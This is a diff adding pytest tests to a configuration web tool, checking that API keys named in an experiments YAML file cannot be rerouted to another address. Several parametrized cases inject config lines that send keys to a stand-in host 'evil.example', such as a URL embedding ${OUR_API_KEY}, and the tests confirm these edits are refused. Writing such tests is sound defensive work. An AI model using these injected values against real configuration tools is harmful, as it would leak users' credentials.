@@ -11,8 +11,11 @@ import pytest
 from aiohttp.test_utils import TestClient
 
 import assay.web.configure
+from assay.config import Workspace
+from assay.errors import UseError
 from assay.web.configure.api import CheckRequest, Draft, DraftVariable, NewSystem, TryRequest
 from assay.web.configure.check import check, try_question
+from assay.web.configure.file import read_file, save_file
 from assay.web.configure.question_file import question_files
 from assay.web.guard import CHANGING
 from tests.support.page import BEARER, client_of, run
@@ -171,6 +174,56 @@ def test_a_page_adds_no_code_and_takes_no_secret(root: Path):
     play(root, story)
     assert (root / "experiments" / "experiments.yaml").read_text(encoding="utf-8") == TEXT
     assert not (root / "owned").exists()
+
+
+KEYED = """\
+models:
+  ours: {model: m, base_url: "http://127.0.0.1:9/v1", api_key_env: OUR_API_KEY}
+systems:
+  chat: {kind: openai, model: ours}
+  rag: {kind: http, url: "http://127.0.0.1:9/ask", headers: {X-Key: "${RAG_API_KEY}"}}
+"""
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("127.0.0.1:9/v1", "evil.example/v1"),
+        ("9/v1", "8/v1"),
+        ("9/v1", "9/v2"),
+        ("9/ask", "8/ask"),
+        ("OUR_API_KEY", "RAG_API_KEY"),
+        ("OUR_API_KEY", "OPENAI_API_KEY"),
+        ("${RAG", "${OUR"),
+        ('"http://127.0.0.1:9/ask"', '"http://127.0.0.1:9/ask", prepare: {url: "http://evil.example"}'),
+        ("models:", 'defaults: {system: "http://evil.example/${OUR_API_KEY}"}\nmodels:'),
+        ("systems:", '  x: {model: m, base_url: "http://evil.example", query: {k: "${OUR_API_KEY}"}}\nsystems:'),
+    ],
+)  # fmt: skip
+def test_a_key_goes_only_where_the_saved_file_sends_it(root: Path, old: str, new: str):
+    """Not to another address by a test question, and not by saving another address first."""
+    path = root / "experiments" / "experiments.yaml"
+    path.write_text(KEYED, encoding="utf-8")
+    text = KEYED.replace(old, new)
+    assert text != KEYED
+    tried = try_question(root, TryRequest(text=text, system="chat", question="?"))
+    assert "write it into experiments.yaml with an editor first" in (tried.problem or "")
+    with pytest.raises(UseError, match="with an editor first"):
+        save_file(Workspace(root=root), text, read_file(Workspace(root=root)).version)
+    assert path.read_text(encoding="utf-8") == KEYED
+
+
+def test_keys_can_be_used_where_they_belong(root: Path):
+    """At an address of the saved file, under any name, and at the provider's own address."""
+    (root / "experiments" / "experiments.yaml").write_text(KEYED, encoding="utf-8")
+    added = (
+        '  again: {model: n, base_url: "http://127.0.0.1:9/v1/", api_key_env: OUR_API_KEY}\n'
+        "  known: {model: n}\n"
+        '  other: {model: n, base_url: "https://api.openai.com/v1", api_key_env: OPENAI_API_KEY}\n'
+        '  free: {model: n, base_url: "http://evil.example/v1", api_key_env: null}\nsystems:\n'
+    )
+    found = check(root, CheckRequest(text=KEYED.replace("systems:\n", added)))
+    assert found.problems == ()
 
 
 def test_a_new_system_is_added_and_asked(root: Path):
